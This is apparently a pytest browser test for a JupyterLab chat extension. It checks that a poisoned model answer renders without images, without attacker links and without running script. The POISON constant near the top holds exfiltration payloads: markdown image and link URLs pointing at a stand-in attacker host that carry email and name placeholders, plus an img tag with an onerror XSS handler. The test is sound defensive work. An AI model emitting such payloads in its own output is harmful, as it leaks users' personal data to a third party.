"""The chat panel in a real JupyterLab against a recording server whose answer is poisoned:
the answer reaches the page through the labextension (not widget state), shows the restored
mention, and holds no image and no link to the attacker's host."""

from __future__ import annotations

from pathlib import Path

import nbformat
import pytest

from ..conftest import model_server
from ..server.jupyter import start_jupyter, stop_jupyter
from .conftest import ARTIFACTS
from .test_lab import _run_all, _wait_kernel_idle

EMAIL = "li.wei@example.com"
POISON = ("Hello <PERSON_1>. ![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>) "
          '<img src="https://attacker.example/i?<EMAIL_ADDRESS_1>" onerror="window.__wbxss=1"> '
          "[more](https://attacker.example/<PERSON_1>) Write to <EMAIL_ADDRESS_1>.")


@pytest.fixture
def chat_lab(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    home, root = tmp_path / "home", tmp_path / "root"
    root.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell("%load_ext workbench"), nbformat.v4.new_code_cell("%workbench chat")]
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nbformat.write(nb, str(root / "chat.ipynb"))
    with model_server(monkeypatch, answer=POISON):
        running = start_jupyter(root, home, app="lab", timeout=120)
        try:
            yield running
        finally:
            stop_jupyter(running)


def test_the_answer_is_shown_through_the_extension_and_nothing_remote(browser, chat_lab) -> None:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.set_default_timeout(90_000)
    page = context.new_page()
    try:
        page.goto(f"{chat_lab.url}/lab/tree/chat.ipynb?reset&token={chat_lab.token}")
        page.wait_for_selector(".jp-NotebookPanel .jp-Cell")
        _wait_kernel_idle(chat_lab, "chat.ipynb")
        _run_all(page)
        draft = page.locator(".wb-draft textarea")
        draft.wait_for(timeout=120_000)
        draft.fill(f"Write to Li Wei at {EMAIL}.")
        page.locator("button.wb-review").click()
        page.locator("[data-testid=wb-preview]").wait_for()
        page.locator("button.wb-send").click()
        page.wait_for_function(
            "() => [...document.querySelectorAll('[data-testid=wb-answer]')].some("
            "a => a.innerText.includes('audit') && !a.innerText.includes('▍'))", timeout=120_000)
        answer = page.locator("[data-testid=wb-answer]").last
        text = answer.inner_text()
        assert EMAIL in text and "Li Wei" in text and "image not" in text
        assert page.locator(".wb-chat img").count() == 0
        hrefs = page.eval_on_selector_all(".wb-chat a[href]", "els => els.map(e => e.getAttribute('href'))")
        assert not [h for h in hrefs if "attacker" in h or EMAIL in h], hrefs
        assert page.evaluate("window.__wbxss") is None
        assert page.locator("[data-wb-slot]").count() >= 2  # the turns live in slots the extension fills
    except Exception:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "chat-render-failed.png"))
        raise
    finally:
        context.close()
